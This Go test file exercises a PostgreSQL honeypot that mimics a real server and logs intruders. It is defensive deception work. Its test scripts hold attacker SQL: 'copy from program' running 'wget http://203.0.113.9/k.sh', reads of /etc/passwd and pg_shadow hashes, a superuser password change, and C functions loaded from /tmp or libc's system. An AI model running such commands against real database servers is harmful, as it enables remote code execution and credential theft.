package postgres

import (
	"context"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/url"
	"os/exec"
	"strings"
	"testing"

	"github.com/jackc/pgx/v5"
	"go.uber.org/goleak"

	"decnet/decoy"
	"decnet/decoy/control"
	"decnet/decoy/decoytest"
	"decnet/decoy/event"
	"decnet/decoy/services/internal/bait"
	"decnet/decoy/services/internal/servicetest"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

// identity returns one whose server is as wanted, out of many.
func identity(t *testing.T, wanted func(*server) bool) control.Identity {
	t.Helper()
	return servicetest.Such(t, decoytest.Identity(), func(h *decoy.Host) bool {
		return wanted(newServer(h))
	})
}

func scrams(v *server) bool { return !v.md5 }
func md5s(v *server) bool   { return v.md5 }

func psql(t *testing.T, d *decoytest.Decky, user, password, database, script string) string {
	t.Helper()
	if _, err := exec.LookPath("psql"); err != nil {
		t.Fatal("this test needs the real client psql")
	}
	host, port, err := net.SplitHostPort(d.Address(5432))
	if err != nil {
		t.Fatal(err)
	}
	out, err := servicetest.Run(t, script, "env", "PGPASSWORD="+password, "psql", "-X", "-w", "-h", host, "-p", port, "-U", user, "-v", "VERBOSITY=verbose", database)
	if err != nil {
		t.Logf("psql: %v", err)
	}
	return out
}

func contains(t *testing.T, out string, wants ...string) {
	t.Helper()
	for _, want := range wants {
		if !strings.Contains(out, want) {
			t.Errorf("the answers lack %q:\n%s", want, out)
		}
	}
}

func TestRealClient(t *testing.T) {
	t.Parallel()
	for name, wanted := range map[string]func(*server) bool{"SCRAM": scrams, "MD5": md5s} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			d := decoytest.StartAs(t, identity(t, wanted), "postgres")
			v := newServer(d.Host)
			out := psql(t, d, v.app.Name, v.app.Secret, v.app.Name, `select version();
show server_version;
\l
\dt
\dt users
\dv
\du
\dn
select * from users order by id limit 3;
select count(*) from public.orders;
select table_name from information_schema.tables;
select datname from pg_database;
select usename, passwd from pg_shadow;
selec 1;
select 'x;
'
;
select * from nonesuch;
select nonesuch from users;
select nonesuch(1);
select pg_read_file('/etc/passwd');
copy users from program 'id';
copy settings to stdout;
drop table users;
begin;
select bad from;
select 1;
rollback;
select current_user, current_database(), pg_is_in_recovery(), 6*7;
show nonesuch;
\conninfo
`)
			contains(t, out, v.full(), v.version, "List of databases", "template0", "UTF8", "List of relations", "public | users", "| table | "+v.app.Name, "Did not find any relations.", "List of roles", "List of schemas",
				v.app.People[0].Email, "api_keys", "ERROR:  42601: syntax error at or near \"selec\"\nLINE 1: selec 1;", "ERROR:  42P01: relation \"nonesuch\" does not exist\nLINE 1: select * from nonesuch;\n                      ^",
				"ERROR:  42703: column \"nonesuch\" does not exist", "ERROR:  42883: function nonesuch(integer) does not exist", "ERROR:  42501: permission denied for function pg_read_file", "permission denied for view pg_shadow", "ERROR:  42501:", "smtp_password\t",
				"DROP TABLE\n", "ERROR:  25P02: current transaction is aborted", "| f ", "42", "ERROR:  42704: unrecognized configuration parameter \"nonesuch\"", "You are connected to database")
			kind := map[bool]string{true: "md5", false: "scram-sha-256"}[v.md5]
			d.Wait(event.AuthAttempt, decoytest.Has(event.Outcome, event.Accepted), decoytest.Has(event.Principal, v.app.Name), decoytest.Has("database", v.app.Name), decoytest.Has(event.SecretKind, kind))
			d.Wait("query", decoytest.Has(event.Command, "copy users from program 'id';"))
		})
	}
}

func TestRealClientIsRefused(t *testing.T) {
	t.Parallel()
	d := decoytest.StartAs(t, identity(t, scrams), "postgres")
	contains(t, psql(t, d, "postgres", "no such password", "postgres", "select 1"), `FATAL:  password authentication failed for user "postgres"`)
	e := d.Wait(event.AuthAttempt, decoytest.Has(event.Outcome, event.Rejected))
	// What is recorded must be enough to prove the password.
	get := func(name string) string { value, _ := e.Get(name); return value }
	salt, err := hex.DecodeString(get("salt"))
	if err != nil {
		t.Fatal(err)
	}
	keys, err := keysOf("no such password", salt)
	if err != nil {
		t.Fatal(err)
	}
	if !proves(keys, get(event.Secret), get("auth_message")) {
		t.Error(e)
	}
	good := bait.Passwords(d.Host, "postgres", "postgres")[0]
	contains(t, psql(t, d, "postgres", good, "nonesuch", "select 1"), `FATAL:  database "nonesuch" does not exist`)

	d = decoytest.StartAs(t, identity(t, md5s), "postgres")
	contains(t, psql(t, d, "guest", "secret1", "postgres", "select 1"), `FATAL:  password authentication failed for user "guest"`)
	e = d.Wait(event.AuthAttempt, decoytest.Has(event.Principal, "guest"))
	if salt, err = hex.DecodeString(get("salt")); err != nil || get(event.Secret) != md5Proof("guest", "secret1", salt) {
		t.Error(e, err)
	}
}

// A driver that prepares its statements and wants binary gets what it asks for.
func TestExtendedProtocol(t *testing.T) {
	t.Parallel()
	d := decoytest.StartAs(t, identity(t, scrams), "postgres")
	v := newServer(d.Host)
	u := url.URL{Scheme: "postgres", User: url.UserPassword(v.app.Name, v.app.Secret), Host: d.Address(5432), Path: v.app.Name}
	conn, err := pgx.Connect(t.Context(), u.String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close(t.Context())
	var email string
	if err := conn.QueryRow(t.Context(), "select email from users where username = $1", "admin").Scan(&email); err != nil || email != "admin@"+v.app.Domain {
		t.Errorf("%q, %v", email, err)
	}
	if tag, err := conn.Exec(t.Context(), "delete from users where username = $1", "admin"); err != nil || tag.String() != "DELETE 1" {
		t.Error(tag, err)
	}
	if err := conn.QueryRow(t.Context(), "select version()").Scan(&email); err != nil || email != v.full() {
		t.Errorf("%q, %v", email, err)
	}
	d.Wait("query", decoytest.Has("parameters", "'admin'"))
	// What does something does it once, also when it is described first.
	var n string
	if _, err := conn.Exec(t.Context(), "create table once(x text)"); err != nil {
		t.Error(err)
	}
	if tag, err := conn.Exec(t.Context(), "insert into once values ($1)", "a"); err != nil || tag.String() != "INSERT 0 1" {
		t.Error(tag, err)
	}
	if err := conn.QueryRow(t.Context(), "select count(*) from once").Scan(&n); err != nil || n != "1" {
		t.Errorf("%s rows, %v", n, err)
	}
	if tag, err := conn.CopyFrom(t.Context(), pgx.Identifier{"once"}, []string{"x"}, pgx.CopyFromRows([][]any{{"b"}})); err == nil {
		t.Error(tag, "of a binary COPY, which is not spoken here")
	}
}

func TestDeckiesDiffer(t *testing.T) {
	t.Parallel()
	versions := map[string]bool{}
	servicetest.Looks(t, 20, func(h *decoy.Host) string {
		versions[newServer(h).version] = true
		v := newServer(h)
		return fmt.Sprint(v.full(), v.md5, sharedBuffers(v), v.app.Tables)
	})
	if len(versions) < 3 {
		t.Errorf("only these versions: %v", versions)
	}
}

func TestUnsupportedProtocol(t *testing.T) {
	t.Parallel()
	// Until version 14 the servers knew an older protocol too.
	d := decoytest.StartAs(t, servicetest.Such(t, decoytest.Identity(), func(h *decoy.Host) bool { return newServer(h).major >= 14 }), "postgres")
	conn := d.Dial(5432)
	conn.Write([]byte{0, 0, 0, 12, 0, 2, 0, 0, 'a', 'b', 'c', 0})
	got, err := io.ReadAll(conn)
	if err != nil || string(got) != "EFATAL:  unsupported frontend protocol 2.0: server supports 3.0 to 3.0\n\x00" {
		t.Errorf("%q, %v", got, err)
	}
	// What is no protocol at all is closed in good order, and a newer minor version is told of the one that there is.
	conn = d.Dial(5432)
	io.WriteString(conn, "GET / HTTP/1.0\r\n\r\n")
	if got, err := io.ReadAll(conn); err != nil || len(got) > 0 {
		t.Errorf("%q, %v", got, err)
	}
	conn = d.Dial(5432)
	io.WriteString(conn, "\x00\x00\x00\x17\x00\x03\x00\x02user\x00postgres\x00\x00")
	start := make([]byte, 13)
	if _, err := io.ReadFull(conn, start); err != nil || string(start) != "v\x00\x00\x00\x0c\x00\x03\x00\x00\x00\x00\x00\x00" {
		t.Errorf("%q, %v", start, err)
	}
}

func TestOldProtocol(t *testing.T) {
	t.Parallel()
	d := decoytest.StartAs(t, servicetest.Such(t, decoytest.Identity(), func(h *decoy.Host) bool { return newServer(h).speaksOld() }), "postgres")
	start := make([]byte, 296)
	copy(start, "\x00\x00\x01\x28\x00\x02\x00\x00")
	copy(start[8:], "shop")
	copy(start[72:], "postgres")
	login := func(password string) string {
		t.Helper()
		conn := d.Dial(5432)
		conn.Write(start)
		ask := make([]byte, 9)
		if _, err := io.ReadFull(conn, ask); err != nil || string(ask[:5]) != "R\x00\x00\x00\x05" {
			t.Fatalf("asked for a password by %q, %v", ask, err)
		}
		proof := md5Proof("postgres", password, ask[5:]) + "\x00"
		conn.Write(append([]byte{0, 0, 0, byte(4 + len(proof))}, proof...))
		got, err := io.ReadAll(conn)
		if err != nil {
			t.Fatal(err)
		}
		return string(got)
	}
	if got := login("wrong one"); got != "EFATAL:  password authentication failed for user \"postgres\"\n\x00" {
		t.Errorf("a wrong password: %q", got)
	}
	d.Wait(event.AuthAttempt, decoytest.Has(event.Principal, "postgres"), decoytest.Has("protocol", "2.0"), decoytest.Has(event.Outcome, event.Rejected))
	login(newServer(d.Host).passwords("postgres")[0])
	d.Wait(event.AuthAttempt, decoytest.Has("protocol", "2.0"), decoytest.Has(event.Outcome, event.Accepted))
	conn := d.Dial(5432)
	conn.Write([]byte{0, 0, 0, 8, 0, 1, 0, 0})
	if got, err := io.ReadAll(conn); err != nil || string(got) != "EFATAL:  unsupported frontend protocol 1.0: server supports 2.0 to 3.0\n\x00" {
		t.Errorf("version 1: %q, %v", got, err)
	}
}

func TestGarbage(t *testing.T) {
	t.Parallel()
	d := decoytest.Start(t, "postgres")
	servicetest.Garbage(t, d, 5432, "\x00\x00\x00\x13\x00\x03\x00\x00user\x00root\x00\x00p\x00\x00", "\x00\x00\x00\x40\x00\x03\x00\x00")
}

func FuzzQuery(f *testing.F) {
	f.Add("select a.oid, b as \"Name\" from pg_catalog.pg_class a where x ~ '^(users)$'")
	f.Add("copy to stdout")
	f.Add("create temp table if not exists a(b text, primary key (b)); copy a(b) from program $$id$$ with (delimiter ','); insert into a values (1, 'x'), (null); update a set b = 1 where b like 'x%'; drop table a, b")
	f.Add("copy (select 1) to stdout; begin; select bad from; rollback; show all")
	h, err := decoy.NewHost(decoytest.Identity(), nil)
	if err != nil {
		f.Fatal(err)
	}
	v := newServer(h)
	f.Fuzz(func(t *testing.T, text string) {
		c := &conn{server: v, s: &decoy.Session{}, user: "postgres", database: v.app.Name, status: 'I'}
		for _, tokens := range dialect.Split(text) {
			if o := c.run(text, tokens); o.failed == nil && o.tag == "" {
				t.Fatal("no answer")
			}
		}
	})
}

func FuzzClientFirst(f *testing.F) {
	f.Add("n,,n=,r=abc", "proof")
	f.Fuzz(func(t *testing.T, message, proof string) {
		header, bare, ok := clientFirst(message)
		if ok && header+bare != message {
			t.Fatalf("%q: %q and %q", message, header, bare)
		}
		if proves(scramKeys{stored: make([]byte, 32)}, proof, bare) {
			t.Fatal("proved")
		}
	})
}

func TestTooManyConnections(t *testing.T) {
	t.Parallel()
	d := decoytest.StartAs(t, identity(t, scrams), "postgres")
	// The first eight bytes ask for TLS, and are answered by one.
	for range maxConnections {
		conn := d.Dial(5432)
		conn.Write([]byte{0, 0, 0, 8, 4, 210, 22, 47})
		if _, err := conn.Read(make([]byte, 1)); err != nil {
			t.Fatal(err)
		}
	}
	contains(t, psql(t, d, "postgres", "x", "postgres", "SELECT 1"), "FATAL:  sorry, too many clients already")
}

// A bot that has guessed the superuser's password runs its program as it does elsewhere, and the server does not contradict itself about who it is.
func TestSuperuserRunsAProgram(t *testing.T) {
	t.Parallel()
	d := decoytest.StartAs(t, identity(t, scrams), "postgres")
	out := psql(t, d, "postgres", bait.Passwords(d.Host, "postgres", "postgres")[0], "postgres", `\du
select current_setting($$is_superuser$$), current_setting('transaction_read_only'), pg_is_in_recovery(), current_setting($tz$TimeZone$tz$);
drop table if exists cmd_out;
create table cmd_out(cmd_output text);
copy cmd_out from program 'wget http://203.0.113.9/k.sh; echo x > /tmp/left; id';
copy cmd_out from program 'cat /tmp/left';
select * from cmd_out;
\dt
copy cmd_out from program 'no-such-program';
copy (select $$gone$$) to program 'cat > /tmp/out';
copy cmd_out from '/tmp/out';
insert into cmd_out values ('one'), ('two');
select count(*) from cmd_out;
delete from cmd_out where cmd_output = 'two';
copy cmd_out from stdin;
from the client
\.
create table cmd_out(x int);
select pg_read_file('/etc/hostname');
select usename, passwd from pg_shadow;
alter user postgres with password 'n3w';
create function f(text) returns int as '/tmp/l.so', 'f' language c;
select 'last', cmd_output from cmd_out where cmd_output like 'from%';
drop table cmd_out;
select * from cmd_out;
`)
	contains(t, out, "Superuser", "| off ", "| f ", "| Etc/UTC", "CREATE TABLE", "COPY 1", "(postgres) gid=", " x\n", "public | cmd_out | table | postgres", "ERROR:  38000: program \"no-such-program\" failed", "INSERT 0 2", "DELETE 1",
		`relation "cmd_out" already exists`, d.Host.Hostname, "SCRAM-SHA-256$4096:", "ALTER ROLE", `could not access file "/tmp/l.so"`, "last     | from the client", `relation "cmd_out" does not exist`)
	d.Wait(event.CommandRun, decoytest.Has(event.Command, "wget http://203.0.113.9/k.sh; echo x > /tmp/left; id"), decoytest.Has("user", "postgres"))
	d.Wait(event.Download, decoytest.Has("url", "http://203.0.113.9/k.sh"))
	d.Wait("file_written", decoytest.Has("path", "/tmp/out"), decoytest.Has("content", "gone\n"))
	d.Wait("password_change", decoytest.Has(event.Principal, "postgres"), decoytest.Has(event.Secret, "n3w"))
}

// What a session leaves is bounded, whatever it makes and however often.
func TestWhatASessionMakesIsBounded(t *testing.T) {
	t.Parallel()
	h, err := decoy.NewHost(decoytest.Identity(), nil)
	if err != nil {
		t.Fatal(err)
	}
	c := &conn{server: newServer(h), s: &decoy.Session{}, user: "postgres", status: 'I'}
	do := func(text string) {
		for _, tokens := range dialect.Split(text) {
			c.run(text, tokens)
		}
	}
	for i := range 3 * maxMade {
		do(fmt.Sprintf("create table t%d(x text)", i))
		for range 40 {
			do(fmt.Sprintf("insert into t%d values ('%s')", i, strings.Repeat("x", 4096)))
		}
		do(fmt.Sprintf("insert into t%d select * from t%[1]d; create table u%[1]d as select * from t%[1]d", i))
	}
	total := 0
	for _, made := range c.world().relations {
		for _, row := range made.rows {
			for _, v := range row {
				total += len(str(v))
			}
		}
	}
	if n := len(c.world().relations); n > maxMade+1 || total > maxBytes {
		t.Errorf("%d tables of %d bytes", n, total)
	}
}

// What a person or a tool types first is answered as PostgreSQL 15 answered it, word for word: each want is a real server's.
func TestAnswersAreThoseOfTheRealServer(t *testing.T) {
	t.Parallel()
	d := decoytest.StartAs(t, servicetest.Such(t, decoytest.Identity(), func(h *decoy.Host) bool { v := newServer(h); return v.major == 15 && v.tls && !v.md5 }), "postgres")
	v := newServer(d.Host)
	out := psql(t, d, "postgres", bait.Passwords(d.Host, "postgres", "postgres")[0], v.app.Name, `\pset format unaligned
\pset tuples_only on
select 'a'||'b', upper('x'), 7/2, 7/2.0, 'abc'::text, length('four'), pg_typeof(1.5), null is null;
select 'x'::int;
select 1/0;
select cast(version() as numeric);
select role, count(*) from users group by role order by 1 limit 1;
select count(*) from users u join orders o on o.user_id = u.id where u.id < 0;
select username from users where id = (select min(id) from users);
select 1 union select 2 order by 1 desc;
select sum(n), string_agg(n::text, ',') from generate_series(1, 4) n;
select id, count(*) from orders group by user_id;
select * from users where id = 'abc';
select u.nope from users u;
select x.id from users u;
select nope(1, 'a');
drop table if exists t;
create table t(a int primary key, b varchar(3), c text default 'd');
insert into t values (1, 'abcd');
insert into t values (1, 'abc') returning a, c;
insert into t values (1, 'x');
begin;
delete from t;
rollback;
select count(*) from t;
update t set b = 'z' where a = 1;
select b from t;
\d t
create extension plpython3u;
create function f() returns int as 'x' language plpython3u;
create function f() returns int as '/lib/x86_64-linux-gnu/libc.so.6', 'system' language c;
set role nope;
commit;
select 1; selec 2;
select current_setting('data_directory'), current_setting('nope', true) is null;
select lo_from_bytea(4242, 'abc');
select lo_export(4242, '/tmp/lo');
select pg_read_file('/tmp/lo');
do $$ begin raise notice 'hello'; end $$;
prepare p as select 40 + $1::int;
execute p(2);
select rolname from pg_roles where rolname like 'pg_r%' order by 1;
`)
	dir := fmt.Sprintf("/var/lib/postgresql/%d/main", v.major)
	contains(t, out, "ab|X|3|3.5000000000000000|abc|4|numeric|t\n", `invalid input syntax for type integer: "x"`+"\nLINE 1: select 'x'::int;\n               ^", "ERROR:  22012: division by zero", `22P02: invalid input syntax for type numeric: "PostgreSQL 15`,
		"admin|1\n", "\n0\n", "\nadmin\n", "\n2\n1\n", "10|1,2,3,4\n", `42803: column "orders.id" must appear in the GROUP BY clause`, `invalid input syntax for type integer: "abc"`, "column u.nope does not exist", `missing FROM-clause entry for table "x"`, "function nope(integer, unknown) does not exist",
		`NOTICE:  00000: table "t" does not exist, skipping`, "22001: value too long for type character varying(3)", "\n1|d\n", `23505: duplicate key value violates unique constraint "t_pkey"`+"\nDETAIL:  Key (a)=(1) already exists.", "\nUPDATE 1\nz\n", "b|character varying(3)|||", "c|text|||'d'::text",
		`0A000: extension "plpython3u" is not available`, `42704: language "plpython3u" does not exist`, "XX000: incompatible library", `22023: role "nope" does not exist`, "WARNING:  25P01: there is no transaction in progress", dir+"|t\n", "\n4242\n", "\nabc\n", "NOTICE:  00000: hello", "\n42\n", "pg_read_all_data\npg_read_all_settings\npg_read_all_stats\npg_read_server_files\n")
	d.Wait("file_written", decoytest.Has("path", "/tmp/lo"), decoytest.Has("content", "abc"))
}

// A statement is bounded in what it costs, whatever is put together.
func TestWhatAStatementCostsIsBounded(t *testing.T) {
	t.Parallel()
	h, err := decoy.NewHost(decoytest.Identity(), nil)
	if err != nil {
		t.Fatal(err)
	}
	c := &conn{server: newServer(h), s: &decoy.Session{}, user: "postgres", status: 'I', statements: map[string]statement{}}
	for text, code := range map[string]string{
		"select count(*) from pg_attribute a, pg_attribute b, pg_attribute c":          "53200",
		"select repeat('x', 2000000000)":                                               "53200",
		"select a, a from (select repeat('x', 3000000) a) s":                           "53200",
		"select * from generate_series(1, 2000000000)":                                 "53200",
		"select " + strings.Repeat("(", 1000) + "1" + strings.Repeat(")", 1000):        "54001",
		"select " + strings.Repeat("repeat(", 20) + "'x'" + strings.Repeat(", 9)", 20): "53200",
		"create function r() returns int as 'select r()' language sql; select r()":     "",
		"prepare p as execute p; execute p":                                            "54001",
		"select lpad('', 2000000000)":                                                  "53200",
		"select string_agg(repeat('y', 3000), '') from generate_series(1, 3000)":       "53200",
		"select replace(repeat('y', 100000), 'y', repeat('z', 1000))":                  "53200",
		"select " + strings.Repeat("9999999999::numeric * ", 400) + "1":                "22003",
	} {
		var o outcome
		for _, tokens := range dialect.Split(text) {
			o = c.run(text, tokens)
		}
		if got := ""; code != "" {
			if o.failed != nil {
				got = o.failed.Code
			}
			if got != code {
				t.Errorf("%.60s: %q, want %s", text, got, code)
			}
		}
	}
}

// Who takes the whole database away gets it, by the tool that is for that.
func TestDumpHasTheData(t *testing.T) {
	t.Parallel()
	d := decoytest.StartAs(t, servicetest.Such(t, decoytest.Identity(), func(h *decoy.Host) bool { v := newServer(h); return v.major == 15 && !v.md5 }), "postgres")
	v := newServer(d.Host)
	host, port, err := net.SplitHostPort(d.Address(5432))
	if err != nil {
		t.Fatal(err)
	}
	out, err := servicetest.Run(t, "", "env", "PGPASSWORD="+v.app.Secret, "pg_dump", "-h", host, "-p", port, "-U", v.app.Name, v.app.Name)
	if err != nil {
		t.Errorf("%v\n%.2000s", err, out)
	}
	contains(t, out, "CREATE TABLE public.users (\n    id integer NOT NULL,\n    username text,", "COPY public.users (id, username, email, password_hash, role, created_at) FROM stdin;", v.app.People[0].Email, "ADD CONSTRAINT users_pkey PRIMARY KEY (id);")
}

// Who sleeps is waited for, and ends with the service; others go on.
func TestSleepIsWaitedFor(t *testing.T) {
	t.Parallel()
	h, err := decoy.NewHost(decoytest.Identity(), nil)
	if err != nil {
		t.Fatal(err)
	}
	v := newServer(h)
	ctx, stop := context.WithCancel(t.Context())
	done := make(chan outcome)
	text := "select pg_sleep(100), 1"
	for range cap(v.turns) + 1 {
		c := &conn{server: v, s: &decoy.Session{}, user: "postgres", status: 'I', ctx: ctx}
		go func() { done <- c.run(text, dialect.Split(text)[0]) }()
	}
	other := &conn{server: v, s: &decoy.Session{}, user: "postgres", status: 'I', ctx: ctx}
	if o := other.run("select 1", dialect.Split("select 1")[0]); o.failed != nil || len(o.result.rows) != 1 {
		t.Error(o.failed)
	}
	select {
	case o := <-done:
		t.Errorf("a sleeper is back at once: %v", o.failed)
	default:
	}
	stop()
	for range cap(v.turns) + 1 {
		<-done
	}
}
